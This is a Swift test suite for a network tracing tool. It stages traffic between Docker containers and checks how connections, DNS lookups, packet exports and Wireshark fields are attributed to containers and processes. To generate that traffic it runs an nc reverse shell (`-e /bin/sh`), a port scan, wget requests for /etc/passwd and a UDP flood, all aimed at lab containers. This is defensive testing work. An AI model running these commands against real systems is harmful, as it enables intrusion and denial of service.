import ContainerLab
import Glibc
import JSON
import Posix
import Testing

extension EndToEndTests {
  /// Who talked with whom, in real containers on a docker bridge.
  @Suite struct NetworkTests {
    private static let skipReason = DockerLab.skipReason ?? Lab.missing("python3", "tshark", "tcpdump", "capinfos")

    /// Answers `shop.test` with an address, every other name with NXDOMAIN.
    private static let nameServer = """
      import socket, struct, sys
      s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
      s.bind((sys.argv[1], 53))
      print("ready", flush=True)
      while True:
          m, peer = s.recvfrom(512)
          end = m.index(0, 12) + 5
          known = m[12:end - 4] == b"\\x04shop\\x04test\\0" and m[end - 4:end - 2] == b"\\0\\x01"
          head = m[:2] + struct.pack("!HHHHH", 0x8180 if known else 0x8183, 1, 1 if known else 0, 0, 0)
          answer = b"\\xc0\\x0c\\0\\x01\\0\\x01\\0\\0\\0\\x3c\\0\\x04" + socket.inet_aton(sys.argv[2]) if known else b""
          s.sendto(head + m[12:end] + answer, peer)
      """

    @Test(.enabled(if: Program.canRecord(skipReason)))
    func `every connection of containers is told with its ends, process, figures and result`() throws {
      let place = try Workplace()
      let docker = try DockerLab(network: .bridge)
      defer { docker.end() }
      let (server, client, side, own) = (
        "srv-\(processID)", "cli-\(processID)", "side-\(processID)", "own-\(processID)"
      )
      try docker.docker(
        "run", "-d", "--name", server, "-p", "127.0.0.1:18080:8080", DockerLab.image, "/bin/busybox", "httpd", "-f",
        "-p", "8080", "-h", "/")
      let ip = try docker.docker("inspect", "-f", "{{.NetworkSettings.IPAddress}}", server)
      let gateway = try docker.docker("inspect", "-f", "{{.NetworkSettings.Gateway}}", server)
      try FileDescriptor.write(Self.nameServer.utf8, to: place["names.py"])
      let names = try Lab.start("python3", [place["names.py"], gateway, ip], log: place["names.log"])
      defer {
        try? names.signal(SIGKILL)
        _ = try? names.wait()
      }
      #expect(Lab.waitUntil { Lab.text(of: place["names.log"]).contains("ready") })
      try docker.docker("run", "-d", "--name", client, "--dns", gateway, DockerLab.image, "/bin/sleep", "120")
      try docker.docker(
        "run", "-d", "--name", side, "--network", "container:" + server, DockerLab.image, "/bin/sleep", "120")
      try docker.docker("run", "-d", "--name", own, "--network", "host", DockerLab.image, "/bin/sleep", "120")
      let capture = place["c.pcapng"]
      let recorder = try RunningRecorder(to: capture)
      sleep(4)  // A container in the host's namespace is known as one after three seconds.
      func inside(_ name: String, _ script: String) { _ = try? docker.docker("exec", name, "/bin/sh", "-c", script) }
      inside(client, "wget -q -O - http://shop.test:8080/etc/passwd; nslookup nowhere.test; ping -c 2 \(ip)")
      inside(client, "for port in $(seq 9001 9020); do nc -w 1 \(ip) $port </dev/null; done")
      // A shell that calls back, and what it is told to do.
      try docker.detached(server, "echo 'echo out-$((6*7))' | nc -l -p 4444 > /tmp/said")
      sleep(1)
      inside(client, "nc -w 3 \(ip) 4444 -e /bin/sh")
      inside(side, "wget -q -O - http://127.0.0.1:8080/etc/group")
      inside(own, "wget -q -O - http://127.0.0.1:18080/etc/passwd")
      // One that comes meanwhile, and talks at once.
      let fresh = "new-\(processID)"
      try docker.docker(
        "run", "--name", fresh, DockerLab.image, "/bin/wget", "-q", "-O", "-", "http://\(ip):8080/etc/passwd")
      sleep(1)
      #expect(try recorder.end() == .exited(0), "\(recorder.said)")

      let all = try Program.rows("connections", capture, "--json")
      func of(_ name: String) -> [JSONValue] { all.filter { $0.text("container.name") == name } }
      func to(_ port: Int64, _ rows: [JSONValue]) -> [JSONValue] {
        rows.filter { $0.number("destination.port") == port }
      }

      let page = try #require(to(8080, of(client)).first)
      #expect(to(8080, of(client)).count == 1 && page.text("network.direction") == "egress", "\(to(8080, of(client)))")
      #expect(page.text("destination.ip") == ip && page.text("destination.domain") == "shop.test", "\(page)")
      #expect(page.text("result") == "closed" && page.text("figures") == "packets" && page.text("unknown") == nil)
      #expect(page.text("http.request_line") == "GET /etc/passwd HTTP/1.1", "\(page)")
      #expect(page.text("process.name") == "wget" || page.text("process.name") == "busybox")
      let served = try #require(to(8080, of(server)).first { $0.text("source.ip") == page.text("source.ip") })
      #expect(
        served.text("network.direction") == "ingress" && served.text("process.name") == "httpd"
          || served.text("process.name") == "busybox")
      for figure in ["source.bytes", "destination.bytes", "source.packets", "destination.packets"] {
        #expect(
          page.number(figure) == served.number(figure) && (page.number(figure) ?? 0) > 0, "\(figure): \(page) \(served)"
        )
      }
      #expect(page.text("network.community_id") == served.text("network.community_id"))

      let scanned = of(client).filter { (9001...9020).contains($0.number("destination.port") ?? 0) }
      #expect(scanned.count == 20 && scanned.allSatisfy { $0.text("result") == "refused" }, "\(scanned)")
      #expect(scanned.allSatisfy { $0.text("process.name") != nil && $0.number("source.packets") == 1 }, "\(scanned)")
      let closed = of(server).filter { (9001...9020).contains($0.number("destination.port") ?? 0) }
      #expect(
        closed.count == 20 && closed.allSatisfy { $0.text("result") == "refused" && $0.number("process.pid") == nil })

      let shell = try #require(to(4444, of(client)).first)
      #expect(
        shell.text("result") == "closed" && shell.number("source.bytes") == 7, "out-42 and a line's end: \(shell)")
      #expect(shell.text("process.name") == "sh", "the program that nc became: \(shell)")

      // A container that comes meanwhile. It may be gone before its network namespace could be entered: then calls tell of it.
      let first = try #require(to(8080, of(fresh)).first, "\(of(fresh))")
      #expect(
        first.text("http.request_line") == "GET /etc/passwd HTTP/1.1" && (first.number("destination.bytes") ?? 0) > 0,
        "\(first)")
      if first.text("figures") != "packets" { print("a new container's packets were not seen: it was gone too soon") }

      // Two containers in one namespace: each has its own end of it.
      let asked = try #require(to(8080, of(side)).first)
      #expect(asked.text("network.direction") == "egress" && asked.text("interface") == "lo", "\(asked)")
      #expect(
        to(8080, of(server)).contains {
          $0.text("destination.ip") == "127.0.0.1" && $0.text("network.direction") == "ingress"
        })

      // The published port: through docker's proxy on the host, whose both sides are the proxy's.
      let proxied = try #require(to(18080, of(own)).first { $0.text("network.direction") == "egress" })
      #expect(proxied.text("result") == "closed" && proxied.number("destination.bytes") ?? 0 > 0, "\(proxied)")
      let proxy = all.filter { $0.text("container.name") == nil && $0.text("process.name") == "docker-proxy" }
      #expect(
        proxy.contains { $0.number("destination.port") == 18080 && $0.text("network.direction") == "ingress" },
        "\(proxy)")
      #expect(
        proxy.contains { $0.text("destination.ip") == ip && $0.text("network.direction") == "egress" }, "\(proxy)")

      let ping = of(client).filter { $0.text("network.transport") == "icmp" }
      #expect(
        ping.count == 1 && ping[0].number("source.packets") == 2 && ping[0].text("result") == "answered", "\(ping)")

      let asks = try Program.rows("dns", capture, "--json").filter { $0.text("container.name") == client }
      let found = try #require(
        asks.first { $0.text("dns.question.name") == "shop.test" && $0.text("dns.question.type") == "A" }, "\(asks)")
      #expect(found.text("dns.response_code") == "NOERROR" && found["dns.resolved_ip"]?.elements.first?.string == ip)
      #expect(found["seen_by"]?.elements.count == 2 && found.number("attempts") == 1, "\(found)")
      #expect(found.text("server.ip") == gateway && (found.number("event.duration") ?? 0) > 0)
      let missing = asks.filter {
        $0.text("dns.question.name") == "nowhere.test" && $0.text("dns.question.type") == "A"
      }
      #expect(missing.contains { $0.text("dns.response_code") == "NXDOMAIN" }, "\(asks)")
      let answers = try Program.rows("dns", capture, "--json").filter { $0.text("role") == "server" }
      #expect(answers.contains { $0.text("process.name") == "python3" && $0.text("dns.question.name") == "shop.test" })

      // Community ids are what Wireshark makes of the same packets; events have them too.
      let shown = try ProgramLaunch(
        Lab.find("tshark")!,
        [
          "-r", capture, "--enable-protocol", "communityid", "-Y", "tcp.dstport == 8080", "-T", "fields", "-e",
          "communityid",
        ],
        environment: Program.clean
      ).run().text.split(separator: "\n").map(String.init)
      #expect(shown.contains(try #require(page.text("network.community_id"))), "\(shown)")
      let events = try Program.rows("export", capture, "--container", client)
      #expect(
        events.contains {
          $0.text("aftertrace.kind") == "net.connect"
            && $0.text("network.community_id") == page.text("network.community_id")
        })

      try Self.checkExports(of: capture, client, place)
      let text = try Program.run("connections", capture, "--container", client, "-f", "fd.sport=4444").text
      #expect(text.contains(":4444") && !text.contains(":8080"), "\(text)")
    }

    private static func shell(_ command: String) throws -> String {
      try ProgramLaunch("/bin/sh", ["-c", command], environment: Program.clean).run(mergingErrors: true).text
    }

    /// One container's packets as files of their own, and what Wireshark makes of the capture as it is.
    private static func checkExports(of capture: String, _ client: String, _ place: Workplace) throws {
      let packets = try Program.rows("packets", capture, "--json", "--container", client)
      for format in ["pcap", "pcapng"] {
        let file = place["only.\(format)"]
        let result = try Program.run("export", "--to", format, "--container", client, "-o", file, capture)
        #expect(result.end == .exited(0), "\(result.text)")
        // Nothing but what `packets` says of it. A packet's own time is that of its clock, the time that is printed comes by
        // way of the anchors of the recording: they are some hundred nanoseconds apart.
        let times = try shell("tcpdump -tt --nano -nr \(file) 2>/dev/null | cut -d ' ' -f 1").split(separator: "\n")
          .map { Int($0.split(separator: ".").last ?? "") ?? -1 }
        let printed = packets.map { Int($0.text("time")?.split(separator: ".").last?.prefix(9) ?? "") ?? -1 }
        #expect(times.count == packets.count && Set(times).count > 1, "\(format)")
        let apart = zip(times, printed).map { min(abs($0 - $1), 1_000_000_000 - abs($0 - $1)) }
        #expect(apart.allSatisfy { $0 < 100_000 } && times.allSatisfy { $0 >= 0 }, "\(format): \(apart)")
        let facts = try shell("capinfos \(file)")
        #expect(
          facts.contains("nanoseconds (9)") && facts.contains("Number of packets:   \(packets.count)"), "\(facts)")
      }
      #expect(
        try shell(
          "tshark -r \(place["only.pcapng"]) -Y 'frame.comment contains \"container=\(client)\"' 2>/dev/null | wc -l")
          == "\(packets.count)\n")
      // The same from standard input: nothing is sought in it.
      #expect(
        try shell(
          "\(Program.path) export --to pcap --container \(client) \(capture) | tcpdump -nr - 2>/dev/null | wc -l")
          == "\(packets.count)\n")

      let script =
        #filePath.split(separator: "/").dropLast(3).map { "/" + $0 }.joined() + "/docs/wireshark/aftertrace.lua"
      func shown(_ filter: String, _ field: String) throws -> [String] {
        try shell("tshark -X lua_script:\(script) -r \(capture) -Y '\(filter)' -T fields -e \(field) 2>/dev/null")
          .split(separator: "\n").map(String.init)
      }
      #expect(try shown("aftertrace.container == \"\(client)\"", "aftertrace.container").count == packets.count)
      let asked = try #require(packets.first { $0.number("destination.port") == 4444 }?.number("pid"))
      let pids = try shown("aftertrace.pid == \(asked) && tcp.dstport == 4444", "aftertrace.exe")
      #expect(!pids.isEmpty && pids.allSatisfy { $0 == "/bin/busybox" }, "\(pids)")
      #expect(try !shown("aftertrace.host && aftertrace.process == \"docker-proxy\"", "aftertrace.pid").isEmpty)
      let errors = try shell("tshark -X lua_script:\(script) -r \(capture) -c 1 2>&1 >/dev/null")
      #expect(!errors.contains("lua") && !errors.contains("Lua"), "\(errors)")
    }

    @Test(.enabled(if: Program.canRecord(DockerLab.skipReason ?? Lab.missing("python3", "nsenter"))))
    func `of a flood each packet is recorded or counted as lost, and memory stays bounded`() throws {
      let place = try Workplace()
      let docker = try DockerLab(network: .bridge)
      defer { docker.end() }
      let name = "flood-\(processID)"
      try docker.docker("run", "-d", "--name", name, DockerLab.image, "/bin/sleep", "120")
      let gateway = try docker.docker("inspect", "-f", "{{.NetworkSettings.Gateway}}", name)
      let pid = try docker.docker("inspect", "-f", "{{.State.Pid}}", name)
      func counted() throws -> Int64 {
        let text = try docker.docker(
          "exec", name, "/bin/sh", "-c", "cd /sys/class/net/eth0/statistics; cat rx_packets tx_packets tx_dropped")
        return text.split(separator: "\n").compactMap { Int64($0) }.reduce(0, +)
      }
      // What an interface says when it comes up has been said.
      sleep(2)
      let capture = place["flood.pcapng"]
      let recorder = try RunningRecorder(to: capture, flags: ["--container", name, "--packets", "all"])
      sleep(1)
      let before = try counted()
      let script = """
        import socket
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for _ in range(200000):
            try: s.sendto(b"x" * 1000, ("\(gateway)", 9999))
            except OSError: pass
        """
      _ = try ProgramLaunch(
        Lab.find("nsenter")!, ["-t", pid, "-n", "python3", "-c", script], environment: Program.clean
      ).run(mergingErrors: true)
      sleep(1)
      let sent = try counted() - before
      let status = Lab.text(of: "/proc/\(recorder.child.pid)/status")
      let peak = status.split(separator: "\n").first { $0.hasPrefix("VmHWM") }?.split(separator: " ").dropFirst().first
      #expect(try recorder.end() == .exited(0), "\(recorder.said)")
      let info = try JSONValue(parsing: try Program.run("info", "--json", capture, merging: false).text)
      let lost = (info["losses"]?.elements ?? []).filter { $0.text("lane") == "packets" }
        .reduce(Int64(0)) { $0 + ($1.number("count") ?? 0) }
      let recorded = info.number("packets") ?? 0
      #expect(sent >= 100_000, "the flood did not come about")
      // Who neighbours are may be asked before the first count and after the last.
      #expect(
        recorded + lost >= sent && recorded + lost <= sent + 100,
        "\(recorded) recorded, \(lost) lost, \(sent) went over the wire")
      #expect(recorded > 0 && (peak.flatMap { Int($0) } ?? .max) < 1 << 20, "\(status)")
    }

    @Test(.enabled(if: Program.canRecord(Lab.missing("python3"))))
    func `packets of IPv6 are tied to their process, also behind extension headers`() throws {
      let place = try Workplace()
      try FileDescriptor.write(
        """
        import socket
        socket.setdefaulttimeout(20)
        server = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        server.bind(("::1", 0))
        client = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        client.bind(("::1", 0))
        options = bytes([0, 0, 1, 4, 0, 0, 0, 0])
        client.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_HOPOPTS, options)
        client.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_DSTOPTS, options)
        client.sendto(b"behind two headers", server.getsockname())
        print(server.recvfrom(100))
        listener = socket.create_server(("::1", 0), family=socket.AF_INET6)
        peer = socket.create_connection(listener.getsockname()[:2])
        other, _ = listener.accept()
        peer.sendall(b"hello"); other.recv(10); other.close(); peer.close()
        """.utf8, to: place["six.py"])
      let capture = place["six.pcapng"]
      let recording = try Program.record(
        ["/bin/sh", "-c", "sleep 0.5; exec python3 \(place["six.py"])"], to: capture)
      #expect(recording.end == .exited(0), "\(recording.text)")
      let packets = try Program.rows("packets", capture, "--json")
      let datagram = try #require(packets.first { $0.number("network.iana_number") == 17 }, "\(packets)")
      #expect(datagram.text("process") == "python3" && datagram.text("source.ip") == "::1")
      #expect(
        datagram.number("source.port") != nil && datagram.text("summary")?.hasSuffix("udp 18 bytes") == true,
        "\(datagram)")
      let connections = try Program.rows("connections", capture, "--json")
      let udp = connections.filter { $0.text("network.transport") == "udp" }
      #expect(udp.contains { $0.number("source.bytes") == 18 && $0.text("figures") == "packets" }, "\(udp)")
      let tcp = connections.filter { $0.text("network.transport") == "tcp" }
      #expect(
        tcp.count == 2 && tcp.allSatisfy { $0.number("source.bytes") == 5 && $0.text("network.type") == "ipv6" },
        "\(tcp)")
    }
  }
}
